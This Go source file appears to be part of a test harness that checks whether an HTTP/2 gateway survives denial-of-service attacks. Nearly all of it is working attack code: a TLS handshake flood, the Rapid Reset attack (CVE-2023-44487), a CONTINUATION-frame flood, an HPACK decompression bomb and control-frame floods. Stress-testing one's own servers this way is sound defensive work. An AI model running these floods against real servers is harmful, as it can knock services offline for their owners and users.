package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// handshakes makes full handshakes as fast as 64 clients can that do no more
// of the work than they must: they believe any certificate.
func handshakes(t *trial) {
	const clients, during = 64, 6 * time.Second
	config := &tls.Config{InsecureSkipVerify: true, ServerName: "localhost", CurvePreferences: []tls.CurveID{tls.X25519}}
	var made, refused atomic.Int64
	var wg sync.WaitGroup
	for i := range clients {
		wg.Go(func() {
			for time.Since(t.began) < during && t.ctx.Err() == nil {
				if err := t.handshake(i, config); err != nil {
					refused.Add(1)
					t.pause(10 * time.Millisecond)
					continue
				}
				made.Add(1)
			}
		})
	}
	wg.Wait()
	t.note("%d clients, %.0f handshakes a second, %d refused", clients, float64(made.Load())/during.Seconds(), refused.Load())
	if made.Load() == 0 {
		t.broken("no handshake succeeded: no attack")
	}
}

func (t *trial) handshake(attacker int, config *tls.Config) error {
	raw, err := t.connect(attacker)
	if err != nil {
		return err
	}
	defer raw.Close()
	ctx, cancel := context.WithTimeout(t.ctx, 10*time.Second)
	defer cancel()
	return tls.Client(raw, config).HandshakeContext(ctx)
}

// rapidReset opens streams only to cancel them (CVE-2023-44487), as fast as it
// can and then so that one can count.
func rapidReset(t *trial) {
	t.resets(0, func(sent int, _ *frames) bool { return sent < 20_000 }, func(sent int) {
		t.note("%d streams were on their way at full speed", sent)
	})
	// What is written first waits in the buffers of two kernels, so the number
	// of streams written says little. A client that has a PING answered for
	// every ten streams, and no more than fifty streams ahead of the answers,
	// knows to fifty how many the gateway has read.
	t.resets(1, func(sent int, c *frames) bool {
		if sent%10 == 0 && c.pingNumber(sent) != nil {
			return false
		}
		for began := time.Now(); int64(sent)-c.answered.Load() > 50; time.Sleep(100 * time.Microsecond) {
			if c.ended(0) || time.Since(began) > 5*time.Second {
				return false
			}
		}
		return sent < 20_000
	}, t.streamed)
	t.cleanLoad()
}

// resets opens and cancels streams for as long as more says so and the gateway
// bears it.
func (t *trial) resets(attacker int, more func(sent int, c *frames) bool, count func(sent int)) {
	c, err := t.frames(attacker)
	if err != nil {
		t.broken("dialling: %v", err)
		return
	}
	defer c.Close()
	go c.listen()
	began, sent := time.Now(), 0
	for more(sent, c) && c.openAndReset() == nil {
		sent++
	}
	count(sent)
	t.cutOff(c, began)
}

func (c *frames) openAndReset() error {
	if c.ended(0) {
		return net.ErrClosed
	}
	id, err := c.open("wait")
	return errors.Join(err, c.WriteData(id, true, []byte(chatBody)), c.WriteRSTStream(id, http2.ErrCodeCancel), c.Flush())
}

// continuations sends a head without end.
func continuations(t *trial) {
	c, err := t.frames(0)
	if err != nil {
		t.broken("dialling: %v", err)
		return
	}
	defer c.Close()
	go c.listen()
	began := time.Now()
	c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.block("wait"), EndStream: true})
	// A field without indexing, over and over.
	fragment := bytes.Repeat([]byte("\x00\x03x-a\x0aaaaaaaaaaa"), 1000)
	sent := 0
	for ; sent < 2000; sent++ {
		if c.WriteContinuation(1, false, fragment) != nil {
			break
		}
	}
	c.Flush()
	t.note("%d frames, %d KiB", sent, sent*len(fragment)>>10)
	t.cutOff(c, began)
}

// cutOff wants the gateway to have ended the connection.
func (t *trial) cutOff(c *frames, began time.Time) {
	if !c.ended(5 * time.Second) {
		t.broken("the connection is still open")
		return
	}
	t.borne(time.Since(began))
}

// hpackBomb names one long field of the dynamic table again and again: 52 KB
// on the wire, 195 MB if it were written out.
func hpackBomb(t *trial) {
	const clients = 20
	var wg sync.WaitGroup
	for i := range clients {
		wg.Go(func() {
			c, err := t.frames(i)
			if err != nil {
				t.broken("dialling: %v", err)
				return
			}
			defer c.Close()
			go c.listen()
			began := time.Now()
			c.bomb() // an error shows as the end of the connection
			t.cutOff(c, began)
		})
	}
	wg.Wait()
	t.note("%d connections, 195 MB each", clients)
}

func (c *frames) bomb() error {
	block := bytes.Clone(c.block("wait", hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 3900)}))
	block = append(block, bytes.Repeat([]byte{0x80 | 62}, 50_000)...) // the newest entry of the table
	const frame = 16 << 10
	err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:frame], EndStream: true})
	for block = block[frame:]; len(block) > 0 && err == nil; {
		n := min(len(block), frame)
		err = c.WriteContinuation(1, n == len(block), block[:n])
		block = block[n:]
	}
	return errors.Join(err, c.Flush())
}

// flood sends frames that cost something and ask for nothing.
type flood struct {
	frames int
	frame  func(c *frames) error
	// deaf: nothing of what the gateway answers is read.
	deaf bool
	// upload: a request whose body does not end is under way.
	upload bool
}

func pingFrame(c *frames) error      { return c.WritePing(false, [8]byte{1}) }
func settingsFrame(c *frames) error  { return c.WriteSettings() }
func emptyDataFrame(c *frames) error { return c.WriteData(1, false, nil) }

func (f flood) run(t *trial) {
	c, err := t.frames(0)
	if err != nil {
		t.broken("dialling: %v", err)
		return
	}
	defer c.Close()
	if !f.deaf {
		go c.listen()
	}
	if f.upload {
		if _, err := c.open("slow"); err != nil {
			t.broken("asking: %v", err)
			return
		}
	}
	c.conn.SetWriteDeadline(time.Now().Add(10 * time.Second))
	began, sent := time.Now(), 0
	for ; sent < f.frames; sent++ {
		if err = f.frame(c); err != nil {
			break
		}
	}
	t.note("%d frames", sent)
	if sent == f.frames || timedOut(err) {
		t.broken("the connection is still open after %d frames and %.0f s", sent, time.Since(began).Seconds())
		return
	}
	t.borne(time.Since(began))
}

func timedOut(err error) bool {
	timeout, ok := err.(interface{ Timeout() bool })
	return ok && timeout.Timeout()
}
